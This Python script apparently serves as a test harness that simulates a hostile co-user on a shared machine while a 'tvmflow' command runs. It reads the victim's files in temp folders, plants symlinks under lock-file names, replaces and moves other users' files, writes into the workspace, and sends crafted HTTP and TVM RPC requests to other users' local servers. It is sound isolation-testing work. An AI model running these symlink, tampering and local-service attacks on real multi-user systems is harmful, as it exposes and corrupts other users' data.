"""What another user of the machine tries while a command runs: `python hostile_user.py STOP RESULTS VICTIM SHARED`.

Needs no package. Writes each success to RESULTS until the file STOP exists.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import socket
import sys
import time
from pathlib import Path

_REQUESTS = (
    b"POST /api/flow_runs/filter HTTP/1.0\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
    b"POST /api/flows/ HTTP/1.0\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 18\r\n\r\n"
    b'{"name":"planted"}',
    b"GET /api/admin/settings HTTP/1.0\r\nHost: x\r\nAuthorization: Basic " + base64.b64encode(b"a:b") + b"\r\n\r\n",
    b"POST /api/flows/filter HTTP/1.0\r\nHost: 127.0.0.1/api/health\r\nContent-Length: 2\r\n\r\n{}",
    (0xFF271).to_bytes(4, "little") + (6).to_bytes(4, "little") + b"client",  # TVM's RPC
    b"\0" * 64,
)
_MINE = os.getuid()
done: set[str] = set()
tried = {"folders": 0, "connections": 0, "links": 0, "writes": 0}


def read_folders(places: list[Path], user: int) -> None:
    """List and read what the user has in shared folders."""
    for place in places:
        with contextlib.suppress(OSError):
            for path in place.iterdir():
                with contextlib.suppress(OSError):
                    if "tvmflow" not in path.name or path.lstat().st_uid != user:
                        continue
                    tried["folders"] += 1
                    if path.is_dir():
                        done.add(f"listed {path}: {[one.name for one in path.iterdir()][:3]}")
                    elif path.read_bytes():
                        done.add(f"read {path}")


def plant(shared: Path, victim: Path, workspace: Path) -> None:
    """Put links and files where the command might write, or read, next."""
    for name in ("local.lock", "measure.lock", "host.lock", "device.lock", "tvmflow-run.json"):
        for place in (shared, Path("/tmp")):  # noqa: S108
            with contextlib.suppress(OSError):
                (place / name).symlink_to(victim)
                tried["links"] += 1
    with contextlib.suppress(OSError):
        for path in list(shared.iterdir()):
            if path.lstat().st_uid != _MINE and not path.is_symlink():
                tried["links"] += 1
                with contextlib.suppress(OSError):
                    path.unlink()
                    path.symlink_to(victim)
                    done.add(f"replaced {path}")
                with contextlib.suppress(OSError):
                    path.rename(shared / "moved")
                    done.add(f"moved {path}")
    for name in ("params.yaml", "artifacts", ".prefect", ".dvc/config"):
        with contextlib.suppress(OSError):
            tried["writes"] += 1
            (workspace / name / "planted" if (workspace / name).is_dir() else workspace / name).write_text("planted")
            done.add(f"wrote {workspace / name}")
    for name in (".prefect/prefect.db", ".prefect/server.log", "artifacts/.clone"):
        with contextlib.suppress(OSError):
            if (workspace / name).read_bytes() and name.endswith(".db"):
                done.add(f"read {name}")


def connect() -> None:
    """Talk to each server that listens on this machine and belongs to somebody else."""
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[3] != "0A" or int(fields[7]) in (0, _MINE):
            continue
        port = int(fields[1].split(":")[1], 16)
        for request in _REQUESTS:
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2) as peer:
                tried["connections"] += 1
                peer.sendall(request)
                answer = peer.recv(300)
                if answer.startswith(b"HTTP/") and answer.split(b" ")[1][:1] == b"2":
                    done.add(f"port {port} answers {request[:40]!r} with {answer[:60]!r}")
                if not answer.startswith(b"HTTP/") and len(answer) > 4:
                    done.add(f"port {port} sends {answer[:40]!r}")
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        name = line.split()[-1]
        if name.startswith("@tvmflow"):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as peer:
                tried["connections"] += 1
                peer.connect("\0" + name[1:])
                peer.settimeout(2)
                peer.sendall(_REQUESTS[-1])
                if peer.recv(10):
                    done.add(f"{name} answers")


def main() -> None:
    stop, results, victim, shared, workspace = map(Path, sys.argv[1:])
    user = victim.stat().st_uid
    while not stop.exists():
        read_folders([Path("/tmp"), Path("/dev/shm"), Path("/var/tmp")], user)  # noqa: S108
        plant(shared, victim, workspace)
        connect()
        time.sleep(0.1)
    results.write_text(json.dumps({"done": sorted(done), "tried": tried}))


main()
